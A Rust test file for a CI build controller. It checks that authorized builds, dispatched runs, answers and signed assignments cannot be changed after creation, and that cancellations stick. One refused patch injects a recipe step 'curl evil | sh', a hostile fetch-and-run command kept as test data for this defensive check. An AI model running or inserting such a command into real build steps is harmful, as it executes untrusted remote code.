//! What was authorized, dispatched or decided stays as it is, and a cancelled build stays cancelled.

use serde_json::{Value, json};

use super::samples::{self, cancel, sha};
use super::{Desk, with};

/// A change of an object that stands that is refused.
pub struct Case {
    /// Put over the sample before the object is made.
    first: Value,
    /// The change.
    change: Value,
    /// What the API server says to it.
    pub says: &'static str,
}

/// Every change of a kind that is shown being refused.
pub fn cases(kind: &str) -> Vec<Case> {
    match kind {
        "PrBuild" => pr_build(),
        "BuilderRun" => builder_run(),
        "Answer" => answer(),
        "Assignment" => assignment(),
        _ => Vec::new(),
    }
}

fn assignment() -> Vec<Case> {
    const SIGNED: &str = "an assignment is what was signed; only spec.cancel may be set";
    let fixed = |change: Value| Case {
        first: json!({}),
        change,
        says: SIGNED,
    };
    vec![
        fixed(json!({ "to": ["pi"] })),
        fixed(json!({ "pool": true })),
        fixed(json!({ "run": { "uid": "v" } })),
        fixed(json!({ "signed": { "payload": "e31=" } })),
        Case {
            first: json!({ "cancel": cancel() }),
            change: json!({ "cancel": { "reason": "something else" } }),
            says: "spec.cancel is set once and stays",
        },
    ]
}

fn pr_build() -> Vec<Case> {
    const REQUEST: &str =
        "spec.request is immutable: it records what was authorized. Ask for a new build instead";
    const CANCEL: &str = "spec.cancel is set once and stays: a cancelled build does not come back. Ask for a new one";
    const BUILDERS: &str = "an entry of spec.cancelBuilders is set once and stays: a cancelled run does not come back. Ask for a new build";
    let merge = json!({ "mergeSha": sha(), "mergeTree": sha(), "baseSha": sha() });
    let one_stopped = |change| Case {
        first: json!({ "cancelBuilders": { "debian": cancel() } }),
        change: json!({ "cancelBuilders": change }),
        says: BUILDERS,
    };
    let fixed = |change: Value| Case {
        first: json!({}),
        change: json!({ "request": change }),
        says: REQUEST,
    };
    let stopped = |change| Case {
        first: json!({ "cancel": cancel() }),
        change,
        says: CANCEL,
    };
    vec![
        fixed(json!({ "headSha": "f".repeat(40) })),
        fixed(merge.clone()),
        fixed(json!({ "number": 8 })),
        fixed(json!({ "builders": ["debian", "windows"] })),
        fixed(json!({ "leftOut": [{ "builder": "windows", "reason": "It is away." }] })),
        fixed(json!({ "repository": { "id": 6 } })),
        fixed(json!({ "trigger": { "user": { "login": "grace" } } })),
        fixed(json!({ "trigger": { "evidence": "Review" } })),
        Case {
            first: json!({ "request": merge }),
            change: json!({ "request": { "mergeSha": null, "mergeTree": null, "baseSha": null } }),
            says: REQUEST,
        },
        stopped(json!({ "cancel": null })),
        stopped(json!({ "cancel": { "by": "grace" } })),
        stopped(json!({ "cancel": { "reason": "another one" } })),
        stopped(json!({ "cancel": { "at": "2027-01-31T12:00:00Z" } })),
        one_stopped(Value::Null),
        one_stopped(json!({ "debian": null })),
        one_stopped(json!({ "debian": { "by": "grace" } })),
    ]
}

fn builder_run() -> Vec<Case> {
    const BELONGS: &str = "a run belongs to one build and one attempt for ever";
    const TASK: &str = "spec.task is immutable: it is what was authorized and dispatched";
    const CANCEL: &str = "spec.cancel is set once and stays";
    let case = |change, says| Case {
        first: json!({}),
        change,
        says,
    };
    let stopped = |change| Case {
        first: json!({ "cancel": cancel() }),
        change,
        says: CANCEL,
    };
    vec![
        case(json!({ "prBuild": { "uid": "another" } }), BELONGS),
        case(json!({ "attempt": 2 }), BELONGS),
        case(
            json!({ "task": { "source": { "commit": "f".repeat(40) } } }),
            TASK,
        ),
        case(
            json!({ "task": { "recipe": { "steps": [{ "run": "curl evil | sh" }] } } }),
            TASK,
        ),
        case(
            json!({ "task": { "kubernetes": { "image": "evil" } } }),
            TASK,
        ),
        case(json!({ "task": { "invalid": "it cannot run" } }), TASK),
        stopped(json!({ "cancel": null })),
        stopped(json!({ "cancel": { "reason": "another one" } })),
    ]
}

fn answer() -> Vec<Case> {
    const SAYS: &str = "an Answer is immutable: it records what was decided";
    let changes = [
        json!({ "reason": "Bot" }),
        json!({ "number": 8 }),
        json!({ "manner": "Silent" }),
        json!({ "facts": { "detail": "more" } }),
        json!({ "trigger": { "user": { "id": 4 } } }),
    ];
    changes
        .map(|change| Case {
            first: json!({}),
            change,
            says: SAYS,
        })
        .into()
}

/// Makes an object for every case of a kind, and tries to change it.
async fn stays(kind: &str) {
    let desk = Desk::open(&format!("stays-{}", kind.to_lowercase())).await;
    for (
        index,
        Case {
            first,
            change,
            says,
        },
    ) in cases(kind).into_iter().enumerate()
    {
        let name = format!("{}-{index}", samples::name(kind));
        let before = desk
            .make(kind, &name, &with(samples::spec(kind), first))
            .await;
        let said = desk
            .patch(kind, &name, &json!({ "spec": change }), false)
            .await
            .unwrap_err();
        assert!(said.contains(says), "{change}: {said}");
        let after = desk.objects(kind).get(&name).await.unwrap();
        assert_eq!(after.data["spec"], before, "{change}");
    }
    desk.close().await;
}

#[tokio::test]
async fn s23_what_was_authorized_stays_as_it_is() {
    stays("PrBuild").await;
}

#[tokio::test]
async fn what_was_dispatched_stays_as_it_is() {
    stays("BuilderRun").await;
}

#[tokio::test]
async fn what_was_answered_stays_as_it_is() {
    stays("Answer").await;
}

#[tokio::test]
async fn what_was_signed_for_a_worker_stays_as_it_is() {
    stays("Assignment").await;
}

#[tokio::test]
async fn s23_a_spec_cannot_be_taken_away() {
    let desk = Desk::open("spec-away").await;
    for kind in samples::KINDS {
        let name = samples::name(kind);
        desk.make(kind, name, &samples::spec(kind)).await;
        let said = desk
            .patch(kind, name, &json!({ "spec": null }), false)
            .await
            .unwrap_err();
        assert!(said.contains("spec: Required value"), "{kind}: {said}");
    }
    let said = desk
        .patch(
            "PrBuild",
            "app-7-l1",
            &json!({ "spec": { "request": null } }),
            false,
        )
        .await;
    assert!(said.unwrap_err().contains("spec.request: Required value"));
    let said = desk
        .patch(
            "BuilderRun",
            "app-7-l1-debian-1",
            &json!({ "spec": { "task": null } }),
            false,
        )
        .await;
    assert!(said.unwrap_err().contains("spec.task: Required value"));
    desk.close().await;
}

#[tokio::test]
async fn a_build_and_a_run_can_be_cancelled_once_and_the_same_wish_again_changes_nothing() {
    let desk = Desk::open("cancel").await;
    for kind in ["PrBuild", "BuilderRun", "Assignment"] {
        let name = samples::name(kind);
        desk.make(kind, name, &samples::spec(kind)).await;
        let wish = json!({ "spec": { "cancel": cancel() } });
        for _ in 0..2 {
            let spec = desk.patch(kind, name, &wish, false).await.unwrap();
            assert_eq!(spec["cancel"], cancel(), "{kind}");
        }
    }
    desk.close().await;
}

#[tokio::test]
async fn one_builder_after_the_other_can_be_cancelled() {
    let desk = Desk::open("cancel-builders").await;
    let (kind, name) = ("PrBuild", samples::name("PrBuild"));
    desk.make(kind, name, &samples::spec(kind)).await;
    for builder in ["debian", "windows"] {
        let wish = json!({ "spec": { "cancelBuilders": { builder: cancel() } } });
        desk.patch(kind, name, &wish, false).await.unwrap();
    }
    let object = desk.objects(kind).get(name).await.unwrap();
    let wished = json!({ "debian": cancel(), "windows": cancel() });
    assert_eq!(object.data["spec"]["cancelBuilders"], wished);
    desk.close().await;
}

#[tokio::test]
async fn a_null_that_was_stored_with_the_build_does_not_keep_it_from_being_cancelled() {
    let desk = Desk::open("cancel-null").await;
    let spec = desk
        .make(
            "PrBuild",
            "app-7-l1",
            &with(samples::spec("PrBuild"), json!({ "cancel": null })),
        )
        .await;
    assert!(spec.get("cancel").is_none(), "{spec}");
    desk.patch(
        "PrBuild",
        "app-7-l1",
        &json!({ "spec": { "cancel": cancel() } }),
        false,
    )
    .await
    .unwrap();
    desk.close().await;
}

#[tokio::test]
async fn the_status_is_written_apart_from_the_spec() {
    let desk = Desk::open("status").await;
    for kind in samples::KINDS {
        let name = samples::name(kind);
        let spec = desk.make(kind, name, &samples::spec(kind)).await;
        let status = json!({ "status": { "fullName": "a/b", "phase": "Complete", "given": "Silent", "conditions": [] } });
        desk.patch(kind, name, &status, false).await.unwrap();
        let object = desk.objects(kind).get(name).await.unwrap();
        assert!(
            object.data.get("status").is_none(),
            "{kind}: {}",
            object.data
        );
        desk.patch_status(kind, name, json!({})).await.unwrap();
        let object = desk.objects(kind).get(name).await.unwrap();
        assert_eq!(object.data["spec"], spec, "{kind}");
    }
    desk.close().await;
}
